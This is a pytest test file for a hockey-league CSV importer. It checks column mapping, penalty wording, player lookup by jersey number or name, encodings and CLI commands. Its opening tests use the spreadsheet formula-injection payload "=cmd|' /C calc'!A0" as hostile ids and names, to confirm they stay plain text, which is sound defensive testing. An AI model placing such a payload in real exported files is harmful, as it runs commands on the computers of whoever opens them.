    data["games"][1]["incidents"][0]["stoppage"] = HOSTILE[5].replace("\n", " ")  # ids: no control characters
    write_folder(data, tmp_path / "out")
    assert "=cmd|' /C calc'!A0" in (tmp_path / "out" / "people.csv").read_text()
    back = read_folder(tmp_path / "out")
    assert back == data
    result = evaluate(load_folder(tmp_path / "out")).to_dict()
    assert result["league"] == HOSTILE[1]
    assert {s["name"] for s in result["suspensions"]} == {HOSTILE[0]}  # A1, suspended in the example
    assert result["suspensions"] == evaluate(data).to_dict()["suspensions"]


def test_hostile_ids_are_text_too(tmp_path):
    people = PEOPLE + '"=cmd|\' /C calc\'!A0","=1+1",A,player\n'
    path = folder(
        tmp_path,
        HEADER + "\"=cmd|' /C calc'!A0\",A1,1,10:00,Tripping,Minor,2\n"
        'G1,"=cmd|\' /C calc\'!A0",3,06:30,Boarding,"Major + GM",\n',
        people_csv=people,
    )
    with pytest.raises(InputError) as exc:
        read_folder(path)
    assert [(p.where, p.line) for p in exc.value.problems] == [("incidents.csv", 2)]
    assert "unknown game \"=cmd|' /C calc'!A0\"" in exc.value.problems[0].message
    (path / "incidents.csv").write_text(HEADER + 'G1,"=cmd|\' /C calc\'!A0",3,06:30,Boarding,"Major + GM",\n')
    season = from_data(read_folder(path))
    assert season.people["=cmd|' /C calc'!A0"].name == "=1+1"
    assert [s.person for s in evaluate(season).suspensions] == ["=cmd|' /C calc'!A0"]


# ---------------------------------------------------------------- the season read from a folder
def test_the_season_knows_its_csv_lines(tmp_path):
    path = folder(tmp_path, HEADER + "G1,B1,1,10:00,Tripping,Minor,2\nG1,A1,1,05:00,Checking from behind,Minor,2\n")
    data, season = import_folder(path)
    assert data["games"][0]["incidents"][1]["infraction"] == "checking_from_behind"
    incident = season.games[0].incidents[1]
    assert (incident.where, incident.line) == ("incidents.csv, games[0].incidents[1]", 3)
    assert (season.games[1].where, season.games[1].line) == ("games.csv, games[1]", 3)
    # the checking-from-behind minor without its game misconduct warns, at its CSV line
    warnings = [(w.where, w.line) for w in evaluate(season).warnings]
    assert ("incidents.csv, games[0].incidents[1]", 3) in warnings


# ================================================================ exports as leagues have them (issue 17)
# ---------------------------------------------------------------- headers
@pytest.mark.parametrize(
    "game, person",
    [
        ("GameID", "PlayerID"),
        ("Game ID", "Player ID"),
        ("game_id", "player_id"),
        ("Game-Id", "Player-Id"),
        ("GAME NO", "Person_ID"),
        ("Game No.", "Name"),
    ],
)
def test_headers_compare_without_case_spaces_or_punctuation(tmp_path, game, person):
    path = folder(tmp_path, f"{game},{person},period,time,infraction,penalty\nG1,A1,1,10:00,Tripping,Minor\n")
    assert incidents_of(path)[0]["person"] == "A1"


def test_the_usual_column_names_of_scoring_systems(tmp_path):
    path = folder(
        tmp_path,
        "Game No,Player,Per,Time,Description,Penalty Type,Penalty Minutes\nG1,A1,1,10:00,Tripping,Minor,2\n",
        name="one",
    )
    assert incidents_of(path) == [
        {"person": "A1", "period": 1, "time": "10:00", "infraction": "tripping", "penalties": ["minor"], "minutes": 2}
    ]
    path = folder(
        tmp_path, "Game #,Offender,Period,Clock,Offence,Penalty,PIMs\nG1,A1,1,10:00,Tripping,Minor,2\n", name="two"
    )
    assert incidents_of(path)[0]["minutes"] == 2


def test_every_column_name_is_listed_in_the_doc():
    from hockeyrules.read.csv.mapping import COLUMNS

    doc = (ROOT / "docs" / "csv-import.md").read_text(encoding="utf-8")
    for file, columns in COLUMNS.items():
        for column, words in columns.items():
            for word in (column,) + words:
                assert f"`{word}`" in doc, (file, word)


@pytest.mark.parametrize(
    "text, types",
    [
        ("GameMisconduct", ["game_misconduct"]),
        ("DoubleMinor", ["double_minor"]),
        ("GrossMisconduct", ["gross_misconduct"]),
    ],
)
def test_penalty_words_written_as_one(text, types):
    assert Mapping().penalties(text) == types


# ---------------------------------------------------------------- penalty-sheet words
@pytest.mark.parametrize(
    "text, code, kind",
    [
        ("Fighting Major", "fighting", "major"),
        ("Major - Fighting", "fighting", "major"),
        ("Instigator (Fighting)", "instigator", None),
        ("Aggressor (Fighting)", "aggressor", None),
        ("Hi-Stick", "high_sticking", None),
        ("Hi-Sticking Double Minor", "high_sticking", "double_minor"),
        ("X-Check", "cross_checking", None),
        ("Head-Butting", "attempt_to_injure", None),  # the rulebook's note to 7.1(b)/(c)
        ("Roughing after the whistle", "roughing", None),
        ("Hitting from Behind", "checking_from_behind", None),
        ("Illegal Check to the Head", "head_contact", None),
        ("Boarding Major", "boarding", "major"),
        ("7.2 Major", "boarding", "major"),
        ("Game Misconduct", "game_misconduct", None),
        ("Check from behind - Minor", "checking_from_behind", "minor"),
    ],
)
def test_penalty_sheet_words(text, code, kind):
    assert Mapping().infraction_and_penalty(text) == (code, kind)


@pytest.mark.parametrize("text", ["Instigator/Aggressor", "Fight", "7.11(a) Major", "Bench", "Check", "Head"])
def test_words_that_could_mean_two_codes_stay_errors(text):
    if text == "Fight":  # one code: fighting
        assert Mapping().infraction(text) == "fighting"
        return
    with pytest.raises(MappingError):
        Mapping().infraction_and_penalty(text)


def test_every_built_in_word_names_one_code():
    from hockeyrules.read.csv.mapping import INFRACTION_WORDS, norm

    seen: dict = {}
    for code, words in INFRACTION_WORDS.items():
        for word in words:
            assert seen.setdefault(norm(word), code) == code, word


def test_an_infraction_cell_with_its_penalty_type(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,3rd,8:12,Fighting Major,,5\nG1,A1,3rd,8:12,Fighting,GM,10\n"
        "G1,B1,3rd,8:12,Fighting Major,Major,5\n",
    )
    assert [(i["person"], i["penalties"]) for i in incidents_of(path)] == [
        ("A1", ["major", "game_misconduct"]),
        ("B1", ["major"]),
    ]
    path = folder(tmp_path, HEADER + "G1,A1,3rd,8:12,Fighting Major,Minor,5\nG1,A2,3rd,8:12,Fighting,,5\n", name="bad")
    assert problems(path, read_folder) == [
        (
            "incidents.csv",
            2,
            "column penalty: 'Minor' disagrees with the infraction cell 'Fighting Major', which says major",
        ),
        ("incidents.csv", 3, "column penalty: empty: name the penalty type (minor, major, misconduct, ...)"),
    ]


# ---------------------------------------------------------------- double minors as two rows
def test_two_minor_rows_alike_are_one_double_minor(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,2nd,10:00,Hi-Stick,Minor,2\nG1,A1,2nd,10:00,Hi-Stick,Minor,2\n"
        "G1,B1,2nd,10:00,Slashing,Minor,2\n",
    )
    assert [(i["person"], i["penalties"], i["minutes"]) for i in incidents_of(path)] == [
        ("A1", ["double_minor"], 4),
        ("B1", ["minor"], 2),
    ]
    path = folder(
        tmp_path,
        HEADER + "G1,A1,2nd,10:00,Hi-Stick,Minor,2\nG1,A1,2nd,10:00,Hi-Stick,Minor,2\n"
        "G1,A1,2nd,10:00,Hi-Stick,Minor,2\nG1,A2,1st,01:00,Tripping,Double Minor,4\n"
        "G1,A2,1st,01:00,Tripping,Minor,2\n",
        name="three",
    )
    assert problems(path, read_folder) == [
        (
            "incidents.csv",
            4,
            "column penalty: minor repeated in one incident (also on line 2): one person, one time, one infraction",
        ),
        (
            "incidents.csv",
            6,
            "column penalty: minor repeated in one incident (also on line 5): one person, one time, one infraction",
        ),
    ]


# ---------------------------------------------------------------- people by jersey number or name
NUMBERED = (
    "id,name,team,role,number,number_from,number_to\n"
    "A1,Sam Smith,A,player,10,,\n"
    "A2,Élodie Côté,A,player,7,,2025-10-05\n"
    "A2,Élodie Côté,A,player,17,2025-10-06,\n"
    "A3,Jo Lee,A,player,7,2025-10-06,\n"
    "CA,Coach A,A,head_coach,,,\n"
    "B1,Sam Smith,B,player,10,,\n"
    "B2,Kim Park,B,player,07,,\n"
    "CB,Coach B,B,head_coach,,,\n"
)
TEAMS_NAMED = "id,name\nA,Alpha Wolves\nB,Bravo Bears\n"
BY_NUMBER = "game,team,number,period,time,infraction,penalty\n"


def numbered(tmp_path, incidents, name="season", **files):
    return folder(tmp_path, incidents, name=name, **{"people_csv": NUMBERED, "teams_csv": TEAMS_NAMED, **files})


def test_people_by_jersey_number_and_team(tmp_path):
    path = numbered(
        tmp_path,
        BY_NUMBER + "G1,A,10,1,10:00,Tripping,Minor\nG1,B,10,1,11:00,Tripping,Minor\n"
        "G1,Alpha Wolves,#7,1,12:00,Tripping,Minor\n"  # A2 until 10-05
        "G2,A,7,1,12:00,Tripping,Minor\n"  # A3 from 10-06
        "G2,A,17,1,13:00,Tripping,Minor\n"  # A2 from 10-06
        "G2,bravo bears,07,1,14:00,Tripping,Minor\n",
    )
    data = read_folder(path)
    assert [i["person"] for g in data["games"] for i in g["incidents"]] == ["A1", "B1", "A2", "A3", "A2", "B2"]
    assert [p["id"] for p in data["people"]] == ["A1", "A2", "A3", "CA", "B1", "B2", "CB"]  # A2 once


def test_people_by_jersey_number_errors(tmp_path):
    path = numbered(
        tmp_path,
        BY_NUMBER + "G1,A,17,1,10:00,Tripping,Minor\n"  # 17 only from 10-06
        "G1,A,99,1,10:00,Tripping,Minor\n"
        "G1,,10,1,10:00,Tripping,Minor\n"
        "G1,B,7,1,10:00,Tripping,Minor\n"  # B wears 07
        "G1,C,10,1,10:00,Tripping,Minor\n"
        "G1,A,ten,1,10:00,Tripping,Minor\n",
    )
    assert problems(path, read_folder) == [
        ("incidents.csv", 2, "column number: no one of A wears #17 on 2025-10-01 (#17 of A: A2 from 2025-10-06)"),
        ("incidents.csv", 3, "column number: no one of A wears #99 in people.csv"),
        ("incidents.csv", 4, "column number: #10: a jersey number needs the team (a team column)"),
        ("incidents.csv", 5, "column number: no one of B wears #7 in people.csv; did you mean '07'?"),
        ("incidents.csv", 6, "column team: unknown team 'C' (neither an id nor a name of teams.csv)"),
        ("incidents.csv", 7, "column number: not a jersey number: 'ten'"),
    ]


def test_two_people_with_one_number_at_once_is_ambiguous(tmp_path):
    people = NUMBERED + "A4,Max Roy,A,player,10,2025-09-01,\n"
    path = numbered(tmp_path, BY_NUMBER + "G1,A,10,1,10:00,Tripping,Minor\n", people_csv=people)
    assert one_problem(path) == (
        "incidents.csv",
        2,
        "column number: #10 of A on 2025-10-01 could be A1 (Sam Smith, A) or A4 (Max Roy, A): give the id",
    )


def test_people_by_name(tmp_path):
    header = "game,team,person,period,time,infraction,penalty\n"
    path = numbered(
        tmp_path,
        header + "G1,A,Sam Smith,1,10:00,Tripping,Minor\n"
        'G1,B,"Smith, Sam",1,11:00,Tripping,Minor\n'
        "G1,,elodie cote,1,12:00,Tripping,Minor\n"
        'G1,,"Côté, Élodie",1,13:00,Tripping,Minor\n'
        "G1,,Jo  Lee,1,14:00,Tripping,Minor\n",
    )
    assert [i["person"] for i in incidents_of(path)] == ["A1", "B1", "A2", "A2", "A3"]


def test_a_name_or_number_that_fits_two_people_or_none_is_an_error_listing_candidates(tmp_path):
    header = "game,team,person,period,time,infraction,penalty\n"
    path = numbered(
        tmp_path,
        header + "G1,,Sam Smith,1,10:00,Tripping,Minor\n"
        "G1,B,Jo Lee,1,10:00,Tripping,Minor\n"
        "G1,,Sam Smyth,1,10:00,Tripping,Minor\n"
        "G1,,Nobody At All,1,10:00,Tripping,Minor\n"
        "G1,,10,1,10:00,Tripping,Minor\n"
        "G1,,a01,1,10:00,Tripping,Minor\n",
    )
    assert problems(path, read_folder) == [
        (
            "incidents.csv",
            2,
            "column person: 'Sam Smith' could be A1 (Sam Smith, A) by its name; B1 (Sam Smith, B) "
            "by its name: give the id",
        ),
        ("incidents.csv", 3, "column person: no one of B is named 'Jo Lee'; that name is A3 (Jo Lee, A)"),
        (
            "incidents.csv",
            4,
            "column person: unknown person 'Sam Smyth' (not an id of people.csv, nor a name); "
            "closest: A1 (Sam Smith, A), B1 (Sam Smith, B)",
        ),
        ("incidents.csv", 5, "column person: unknown person 'Nobody At All' (not an id of people.csv, nor a name)"),
        ("incidents.csv", 6, "column person: unknown person '10'; a jersey number needs the team (a team column)"),
        (
            "incidents.csv",
            7,
            "column person: unknown person 'a01' (not an id of people.csv, nor a name); closest: A1 (Sam Smith, A)",
        ),
    ]


def test_an_id_that_is_also_another_persons_number_is_ambiguous(tmp_path):
    people = NUMBERED + "10,Ten Person,B,player,,,\n"
    header = "game,team,person,period,time,infraction,penalty\n"
    path = numbered(tmp_path, header + "G1,A,10,1,10:00,Tripping,Minor\n", people_csv=people)
    assert one_problem(path) == (
        "incidents.csv",
        2,
        "column person: '10' could be 10 (Ten Person, B) by its id; A1 (Sam Smith, A) by #10 of A: give the id",
    )


def test_a_person_cell_and_a_number_must_agree(tmp_path):
    header = "game,team,person,number,period,time,infraction,penalty\n"
    path = numbered(
        tmp_path, header + "G1,A,Sam Smith,10,1,10:00,Tripping,Minor\nG1,A,Jo Lee,10,1,11:00,Tripping,Minor\n"
    )
    assert one_problem(path) == (
        "incidents.csv",
        3,
        "column person: 'Jo Lee' is A3 (Jo Lee, A) but #10 of A on 2025-10-01 is A1 (Sam Smith, A)",
    )
    path = numbered(tmp_path, header + "G1,A,Sam Smith,10,1,10:00,Tripping,Minor\n", name="good")
    assert incidents_of(path)[0]["person"] == "A1"


def test_ids_are_text_and_leading_zeros_are_pointed_out(tmp_path):
    games = "id,date,home,away,kind\n001,2025-10-01,A,B,regular\n"
    path = folder(
        tmp_path,
        HEADER + "1,A1,1,10:00,Tripping,Minor,2\n001,1,1,10:00,Tripping,Minor,2\n",
        games_csv=games,
        people_csv=PEOPLE + "01,Zero One,A,player\n",
        teams_csv=TEAMS + "007,Bond\n",
    )
    assert problems(path, read_folder) == [
        ("incidents.csv", 2, "column game: unknown game '1' (not in games.csv); did you mean '001'?"),
        (
            "incidents.csv",
            3,
            "column person: unknown person '1'; did you mean '01'?; a jersey number needs the team (a team column)",
        ),
    ]
    path = folder(tmp_path, HEADER, name="teams", people_csv=PEOPLE + "X1,X,7,player\n", teams_csv=TEAMS + "007,Bond\n")
    assert one_problem(path, import_folder) == (
        "people.csv",
        8,
        "column team: unknown team '7' (neither an id nor a name of teams.csv); did you mean '007'?",
    )


def test_teams_by_name(tmp_path):
    games = "id,date,home,away,kind\nG1,2025-10-01,Alpha Wolves,bravo bears,regular\n"
    people = "id,name,team,role\nA1,P,Alpha Wolves,player\nB1,Q,B,player\n"
    path = folder(
        tmp_path,
        "game,person,team,period,time,infraction,penalty\nG1,A1,ALPHA WOLVES,1,10:00,Trip,Minor\n",
        teams_csv=TEAMS_NAMED,
        games_csv=games,
        people_csv=people,
    )
    data = read_folder(path)
    assert (data["games"][0]["home"], data["games"][0]["away"], data["people"][0]["team"]) == ("A", "B", "A")
    teams = "id,name\nA,Wolves\nB,Wolves\n"
    path = folder(tmp_path, HEADER, name="two", teams_csv=teams, people_csv=people.replace("Alpha Wolves", "Wolves"))
    assert one_problem(path, import_folder) == (
        "people.csv",
        2,
        "column team: 'Wolves' could be the team A or B: give its id",
    )


def test_the_mapping_file_names_people_and_teams(tmp_path):
    mapping = tmp_path / "words.yaml"
    mapping.write_text("people:\n  The Captain: A1\n  '10': B1\nteams:\n  Wolves: A\n", encoding="utf-8")
    header = "game,team,person,period,time,infraction,penalty\n"
    path = folder(tmp_path, header + "G1,Wolves,the captain,1,10:00,Trip,Minor\nG1,,10,1,11:00,Trip,Minor\n")
    assert [i["person"] for i in incidents_of(path, mapping=mapping)] == ["A1", "B1"]
    as_csv = tmp_path / "words.csv"
    as_csv.write_text("table,text,code\npeople,The Captain,A1\npeople,10,B1\nteams,Wolves,A\n", encoding="utf-8")
    assert [i["person"] for i in incidents_of(path, mapping=as_csv)] == ["A1", "B1"]
    as_csv.write_text("table,text,code\npeople,The Captain,A9\nteams,Wolves,01\n", encoding="utf-8")
    assert problems(path, read_folder, mapping=as_csv)[:2] == [
        (f"{as_csv}, people.The Captain", 2, "'A9' is not an id of people.csv"),
        (f"{as_csv}, teams.Wolves", 3, "'01' is not an id of teams.csv"),
    ]


def test_first_and_last_name_columns(tmp_path):
    people = "ID,First Name,Last Name,Team,Role\nA1,Sam,Smith,A,player\nB1,Kim,Park,B,player\n"
    path = folder(
        tmp_path, 'game,person,period,time,infraction,penalty\nG1,"Park, Kim",1,10:00,Trip,Minor\n', people_csv=people
    )
    data = read_folder(path)
    assert [p["name"] for p in data["people"]] == ["Sam Smith", "Kim Park"]
    assert data["games"][0]["incidents"][0]["person"] == "B1"


def test_a_second_row_of_a_person_gives_another_number_only(tmp_path):
    people = NUMBERED + "B1,Sam Smith,A,player,11,2025-11-01,\nB2,Kim Park,B,player,8,2025-13-01,\n"
    path = numbered(tmp_path, HEADER, people_csv=people)
    assert problems(path, read_folder) == [
        (
            "people.csv",
            10,
            "column team: 'A' differs from 'B' on line 7, the first row of 'B1' (a second row of a "
            "person gives another number only)",
        ),
        ("people.csv", 11, "column number_from: not a date: '2025-13-01' (2025-11-30)"),
    ]


def test_dressed_and_decisions_by_number_and_name(tmp_path):
    path = numbered(
        tmp_path,
        HEADER,
        dressed_csv="game,team,#\nG1,A,10\nG1,A,7\nG2,A,7\nG1,B,07\n",
        decisions_csv='player,game,set_games,date\n"Smith, Sam",G1,2,2025-10-02\n',
    )
    with pytest.raises(InputError) as exc:
        read_folder(path)
    assert [(p.where, p.line) for p in exc.value.problems] == [("decisions.csv", 2)]
    assert "could be A1 (Sam Smith, A) by its name; B1 (Sam Smith, B)" in exc.value.problems[0].message
    path = numbered(
        tmp_path,
        HEADER,
        name="ok",
        dressed_csv="game,team,#\nG1,A,10\nG1,A,7\nG2,A,7\nG1,B,07\n",
        decisions_csv='player,game,set_games,date\n"Park, Kim",G1,2,2025-10-02\n',
    )
    data = read_folder(path)
    assert data["games"][0]["dressed"] == {"A": ["A1", "A2"], "B": ["B2"]}
    assert data["games"][1]["dressed"] == {"A": ["A3"]}
    assert data["decisions"][0]["person"] == "B2"


# ---------------------------------------------------------------- the jersey-number twin
TWIN_GAMES = "id,date,home,away,kind\nG1,2025-10-01,A,B,regular\nG2,2025-10-08,A,B,regular\nG3,2025-10-15,B,A,regular\n"
TWIN_LINES = [  # game, team, id, number, period, time, infraction, penalty
    ("G1", "A", "A1", "10", "2", "05:00", "Fighting", "Major"),
    ("G1", "A", "A1", "10", "2", "05:00", "Fighting", "GM"),
    ("G1", "B", "B1", "10", "2", "05:00", "Fighting", "Major"),
    ("G1", "B", "B1", "10", "2", "05:00", "Fighting", "GM"),
    ("G1", "A", "A2", "7", "3", "12:00", "Checking from Behind", "Major"),
    ("G1", "A", "A2", "7", "3", "12:00", "Checking from Behind", "GM"),
    ("G2", "A", "A3", "7", "1", "04:00", "Boarding", "Major"),
    ("G2", "A", "A3", "7", "1", "04:00", "Boarding", "GM"),
    ("G3", "A", "A2", "17", "2", "09:00", "Checking from Behind", "Major"),
    ("G3", "A", "A2", "17", "2", "09:00", "Checking from Behind", "GM"),
    ("G3", "B", "B2", "07", "3", "01:00", "Fighting", "Major"),
    ("G3", "B", "B2", "07", "3", "01:00", "Fighting", "GM"),
    ("G3", "A", "A1", "10", "3", "01:00", "Fighting", "Major"),
    ("G3", "A", "A1", "10", "3", "01:00", "Fighting", "GM"),
]


def test_a_folder_naming_players_by_number_gives_the_suspensions_of_its_id_twin(tmp_path):
    by_id = folder(
        tmp_path,
        "game,person,period,time,infraction,penalty\n"
        + "".join(f"{g},{pid},{per},{t},{inf},{pen}\n" for g, _, pid, _, per, t, inf, pen in TWIN_LINES),
        name="ids",
        people_csv=NUMBERED,
        teams_csv=TEAMS_NAMED,
        games_csv=TWIN_GAMES,
    )
    by_number = numbered(
        tmp_path,
        "Game,Team,#,Per,Time,Infraction,Penalty\n"
        + "".join(f"{g},{team},{n},{per},{t},{inf},{pen}\n" for g, team, _, n, per, t, inf, pen in TWIN_LINES),
        name="numbers",
        games_csv=TWIN_GAMES,
    )
    assert read_folder(by_number) == read_folder(by_id)
    expected = evaluate(load_folder(by_id)).to_dict()
    assert {(s["person"], s["game"]) for s in expected["suspensions"]} >= {
        ("A1", "G1"),
        ("B1", "G1"),
        ("A2", "G1"),
        ("A3", "G2"),
        ("A2", "G3"),
    }
    assert evaluate(load_folder(by_number)).to_dict() == expected


# ---------------------------------------------------------------- Excel's habits
def test_a_sep_line_is_honoured(tmp_path):
    path = folder(
        tmp_path,
        "sep=;\ngame;person;period;time;infraction;penalty\nG1;A1;1;10:00;Tripping, hooking;Minor\n",
        people_csv='"sep=,"\n' + PEOPLE,
    )
    with pytest.raises(InputError) as exc:
        read_folder(path)
    assert [(p.where, p.line) for p in exc.value.problems] == [("incidents.csv", 3)]  # lines as in the file
    path = folder(
        tmp_path,
        "sep=;\ngame;person;period;time;infraction;penalty\nG1;A1;1;10:00;Tripping;Minor\n",
        name="ok",
        people_csv='"sep=,"\n' + PEOPLE,
    )
    assert incidents_of(path)[0]["person"] == "A1"


def test_title_rows_above_the_header_are_skipped_and_said(tmp_path):
    incidents = (
        "League X penalty report;;;\nPrinted 2025-10-02;;;\n\ngame;person;period;time;infraction;penalty\n"
        "G1;A1;1;10:00;Tripping;Minor\n"
    )
    path = folder(tmp_path, incidents)
    data, season = import_folder(path)
    assert data["games"][0]["incidents"][0]["person"] == "A1"
    assert [str(w) for w in season.warnings] == [
        "incidents.csv (line 4): the header is line 4; line 1 to 2 above it skipped (a title)"
    ]
    # a header that is nowhere: the first line's problems
    path = folder(tmp_path, "Report\ngame,who,period,time,infraction,penalty\n", name="none")
    assert {(w, line) for w, line, _ in problems(path, read_folder)} == {("incidents.csv", 1)}


def test_utf16_with_bom_is_read(tmp_path):
    people = (
        "id,name,team,role\nA1,Zoë Ærø,A,player\nA2,P,A,player\nCA,C,A,head_coach\nB1,Q,B,player\nCB,D,B,head_coach\n"
    )
    path = folder(
        tmp_path,
        HEADER,
        people_csv=people.encode("utf-16"),
        games_csv=GAMES.replace("\n", "\r\n").encode("utf-16-be").join([b"\xfe\xff", b""]),
    )
    data = read_folder(path)
    assert data["people"][0]["name"] == "Zoë Ærø" and len(data["games"]) == 2


CP1252_PEOPLE = (
    "id,name,team,role\nA1,François Côté,A,player\nA2,Zoë,A,player\nCA,C,A,head_coach\n"
    "B1,Q,B,player\nCB,D,B,head_coach\n"
)


def test_a_cp1252_folder_is_an_error_without_encoding_and_right_with_it(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,François Côté,1,10:00,Tripping,Minor,2\n".replace("G1,", "G1,"),
        people_csv=CP1252_PEOPLE.encode("cp1252"),
    )
    (path / "incidents.csv").write_bytes((HEADER + "G1,François Côté,1,10:00,Tripping,Minor,2\n").encode("cp1252"))
    assert problems(path, read_folder) == [
        (
            "people.csv",
            2,
            "not UTF-8 text (byte 25): give the file's encoding, for example --encoding cp1252 (a "
            "spreadsheet's plain 'CSV' on Windows), or save it as 'CSV UTF-8'",
        ),
        (
            "incidents.csv",
            2,
            "not UTF-8 text (byte 58): give the file's encoding, for example --encoding cp1252 (a "
            "spreadsheet's plain 'CSV' on Windows), or save it as 'CSV UTF-8'",
        ),
    ]
    data = read_folder(path, encoding="cp1252")
    assert [p["name"] for p in data["people"]][:2] == ["François Côté", "Zoë"]
    assert data["games"][0]["incidents"][0]["person"] == "A1"
    assert one_problem(path, encoding="klingon") == (
        "(encoding)",
        None,
        "unknown encoding 'klingon' (for example utf-8, cp1252, latin-1, utf-16)",
    )


# ---------------------------------------------------------------- several incidents files
def test_several_incidents_files_are_read_as_one_in_file_name_order(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n",
        **{
            "incidents-G2.csv": HEADER + "G2,B1,2,05:00,Hooking,Minor,2\nG2,B1,2,05:00,Hooking,Misc.,10\n",
            "incidents-G1b.csv": "Game ID;Player;Per;Time;Infraction;Penalty\nG1;A1;1;10:00;Tripping;Misc.\n"
            "G1;B2;3;01:00;Slashing;Minor\n",
        },
    )
    data, season = import_folder(path)
    # incidents-G1b.csv, incidents-G2.csv, incidents.csv: by name, so the misconduct row comes first
    assert [(i["person"], i["penalties"]) for i in data["games"][0]["incidents"]] == [
        ("A1", ["misconduct", "minor"]),
        ("B2", ["minor"]),
    ]
    g2 = season.games[1]
    assert (g2.incidents[0].where, g2.incidents[0].line) == ("incidents-G2.csv, games[1].incidents[0]", 2)
    g1 = season.games[0]
    assert (g1.incidents[1].where, g1.incidents[1].line) == ("incidents-G1b.csv, games[0].incidents[1]", 3)


def test_each_incidents_row_keeps_its_own_file_and_line(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Misc.,10\nG1,ZZ,1,10:00,Tripping,Minor,2\n",
        **{"incidents-2.csv": HEADER + "\nG1,A1,1,10:00,Tripping,Misc.,10\nG9,A1,1,10:00,Tripping,Minor,2\n"},
    )
    assert problems(path, read_folder) == [
        ("incidents-2.csv", 4, "column game: unknown game 'G9' (not in games.csv)"),  # the blank line 2 counts
        (
            "incidents.csv",
            2,
            "column penalty: misconduct repeated in one incident (also on incidents-2.csv line "
            "3): one person, one time, one infraction",
        ),
        ("incidents.csv", 3, "column person: unknown person 'ZZ' (not an id of people.csv, nor a name)"),
    ]


# ---------------------------------------------------------------- where a record starts
def test_an_unclosed_quote_is_reported_where_its_record_starts(tmp_path):
    path = folder(
        tmp_path,
        HEADER + 'G1,A1,1,10:00,Tripping,Minor,2\nG1,A1,1,10:00,"Tripping,Minor,2\n'
        "G1,A2,1,11:00,Tripping,Minor,2\nG1,A2,1,12:00,Tripping,Minor,2\n",
    )
    assert one_problem(path) == (
        "incidents.csv",
        3,
        "not readable as CSV: unexpected end of data (a quote opened in this record is never closed)",
    )


# ---------------------------------------------------------------- the commands
def _cli(*args):
    from click.testing import CliRunner

    from hockeyrules.cli.commands import main

    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.mark.parametrize("command", [["suspensions"], ["audit"], ["report", "-o", "{tmp}/r.html"]])
def test_the_example_folder_with_mapping_warns_with_csv_file_and_line(tmp_path, command):
    args = [c.replace("{tmp}", str(tmp_path)) for c in command]
    res = _cli(args[0], EXAMPLE, *args[1:], "--mapping", WORDS)
    assert res.exit_code == 0, res.stderr
    assert "warning: incidents.csv (line 2): the header is line 2; line 1 above it skipped (a title)" in res.stderr
    if args[0] != "report":  # the report prints the season's warnings; the result's are in the page
        assert "warning: games.csv, games[4] (line 6): hc:7.10(b)/prepost-coach applies" in res.stderr
    without = _cli(args[0], EXAMPLE, *args[1:])
    assert without.exit_code == 2
    assert "incidents.csv (line 20): column infraction: cannot map 'CTH'" in without.stderr


def test_mapping_and_encoding_on_every_command_that_takes_a_folder(tmp_path):
    path = folder(
        tmp_path, HEADER + "G1,François Côté,1,10:00,Tripping,Minor,2\n", people_csv=CP1252_PEOPLE.encode("cp1252")
    )
    (path / "incidents.csv").write_bytes((HEADER + "G1,François Côté,1,10:00,Tripping,Minor,2\n").encode("cp1252"))
    words = tmp_path / "w.yaml"
    words.write_text("infractions:\n  Trip: tripping\n", encoding="utf-8")
    runs = {
        "suspensions": ["suspensions", path],
        "audit": ["audit", path],
        "report": ["report", path, "-o", tmp_path / "r.html"],
        "explain": ["explain", path, "--game", "G1", "--incident", "1"],
        "diff": ["diff", path, "--proposal", ROOT / "proposals" / "examples" / "first-fight-two-games.yaml"],
        "import": ["import", path, "-o", tmp_path / "s.yaml"],
    }
    for name, args in runs.items():
        bad = _cli(*args)
        assert bad.exit_code == 2 and "--encoding cp1252" in bad.stderr, name
        good = _cli(*args, "--encoding", "cp1252", "--mapping", words)
        assert good.exit_code == 0, (name, good.stderr)
    explained = _cli(*runs["explain"], "--encoding", "cp1252")
    assert "François Côté" in explained.stdout or "A1" in explained.stdout
    usage = _cli("suspensions", ROOT / "examples" / "csv-season" / "season.yaml", "--encoding", "cp1252")
    assert usage.exit_code == 2 and "for a season that is a folder of CSV files" in usage.stderr


def test_a_scenario_file_may_run_on_a_csv_folder(tmp_path):
    folder(tmp_path, HEADER + "G1,A1,3,10:00,TRP,Minor,2\n", people_csv=CP1252_PEOPLE.encode("cp1252"))
    words = tmp_path / "w.yaml"
    words.write_text("infractions:\n  TRP: tripping\n", encoding="utf-8")
    scenarios = tmp_path / "league.scenarios.yaml"
    scenarios.write_text(
        "format: hockeyrules/scenarios@1\nbase: season\ntests:\n"
        "  - name: A tripping minor suspends no one\n    expect: []\n    only: true\n",
        encoding="utf-8",
    )
    assert _cli("test", scenarios).exit_code == 2
    assert _cli("test", scenarios, "--mapping", words).exit_code == 2
    res = _cli("test", scenarios, "--mapping", words, "--encoding", "cp1252")
    assert res.exit_code == 0, res.stdout + res.stderr
    assert "1 passed, 0 failed" in res.stdout


# ---------------------------------------------------------------- season format revision 2
def test_a_row_with_a_team_and_no_person_is_a_team_line(tmp_path):
    path = folder(
        tmp_path,
        "game,team,person,period,time,infraction,penalty,minutes\n"
        "G1,A,,2,11:40,Too Many Men,Bench Minor,2\n"
        "G1,Bravo,,3,01:00,Delay of Game,Minor,2\n"
        "G1,A,A1,3,02:00,Tripping,Minor,2\n"
        "G1,,,3,03:00,Tripping,Minor,2\n",
        teams_csv=TEAMS,
    )
    assert one_problem(path) == (
        "incidents.csv",
        5,
        "column person: empty: name the person (an id, a jersey number with the team, or a name)",
    )
    path = folder(
        tmp_path,
        "game,team,person,period,time,infraction,penalty,minutes\n"
        "G1,A,,2,11:40,Too Many Men,Bench Minor,2\n"
        "G1,Bravo,,3,01:00,Delay of Game,Minor,2\n"
        "G1,A,A1,3,02:00,Tripping,Minor,2\n",
        name="ok",
    )
    assert incidents_of(path) == [
        {
            "team": "A",
            "period": 2,
            "time": "11:40",
            "infraction": "too_many_players",
            "penalties": ["minor"],
            "minutes": 2,
        },
        {
            "team": "B",
            "period": 3,
            "time": "01:00",
            "infraction": "delay_of_game",
            "penalties": ["minor"],
            "minutes": 2,
        },
        {"person": "A1", "period": 3, "time": "02:00", "infraction": "tripping", "penalties": ["minor"], "minutes": 2},
    ]


